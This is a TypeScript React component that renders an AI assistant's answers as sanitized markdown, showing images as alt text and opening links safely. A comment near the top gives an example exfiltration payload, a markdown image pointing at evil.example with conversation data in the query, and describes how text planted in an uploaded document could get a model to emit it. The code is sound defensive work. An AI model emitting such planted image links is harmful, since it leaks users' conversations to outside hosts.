import ReactMarkdown from 'react-markdown';
import type { Components } from 'react-markdown';
import rehypeSanitize from 'rehype-sanitize';
import remarkGfm from 'remark-gfm';
import { Typography } from '@mantine/core';

/**
 * Images are shown as their alt text and never loaded: an image's address is fetched by the browser, so text planted in
 * an uploaded document that a model repeats (`![x](https://evil.example/p.png?u=…)`) could send the conversation anywhere
 * (review s29). Links open in a new tab without telling the target where they came from.
 */
const ANSWER_COMPONENTS: Components = {
  img: ({ alt }) => <>{alt ?? ''}</>,
  a: ({ href, children }) => (
    <a href={href} target="_blank" rel="noopener noreferrer">
      {children}
    </a>
  ),
};

/**
 * An assistant answer as markdown. react-markdown builds React elements (never innerHTML), raw HTML
 * in the text is not interpreted (skipHtml), and rehype-sanitize's GitHub schema drops what is left
 * of unsafe attributes and javascript: links, so an answer can never run script in the page.
 */
export function MarkdownAnswer({ text }: { text: string }) {
  return (
    <Typography fz="sm" style={{ overflowWrap: 'anywhere' }}>
      <ReactMarkdown remarkPlugins={[remarkGfm]} rehypePlugins={[rehypeSanitize]} components={ANSWER_COMPONENTS} skipHtml>
        {text}
      </ReactMarkdown>
    </Typography>
  );
}
